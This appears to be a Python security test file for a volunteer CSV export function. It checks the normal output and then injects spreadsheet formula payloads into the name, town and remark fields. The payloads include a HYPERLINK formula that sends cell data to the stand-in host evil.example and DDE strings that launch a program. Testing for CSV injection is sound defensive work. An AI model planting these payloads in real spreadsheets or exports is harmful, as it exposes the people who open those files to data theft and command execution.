import csv
import io


def cells(m, **changes):
    volunteer = {"name": "Ann Lee", "town": "Bonn", "remark": "evenings, not Fridays", **changes}
    return list(csv.reader(io.StringIO(m.export_volunteers([volunteer, {"name": "Bob", "town": "Ulm", "remark": 'says "hi"'}]))))


def functional_head_and_lines(m, t):
    assert cells(m) == [["Name", "Town", "Remark"], ["Ann Lee", "Bonn", "evenings, not Fridays"], ["Bob", "Ulm", 'says "hi"']]


def functional_nobody(m, t):
    assert list(csv.reader(io.StringIO(m.export_volunteers([])))) == [["Name", "Town", "Remark"]]


def attack(m, t, formula):
    for key in ("name", "town", "remark"):
        rows = t.attempt(cells, m, **{key: formula})
        if rows and any(formula in cell for row in rows for cell in row):
            t.reached()
        for row in rows or []:
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    t.exploited(f"the cell {cell!r} is a formula")


def exploit_equals_sign(m, t):
    attack(m, t, '=HYPERLINK("http://evil.example?"&A1,"more")')


def exploit_at_sign(m, t):
    attack(m, t, "@SUM(1+1)*cmd|' /C calc'!A0")


def exploit_plus_and_minus(m, t):
    attack(m, t, "+1+cmd|' /C calc'!A0")
    attack(m, t, "-1+cmd|' /C calc'!A0")
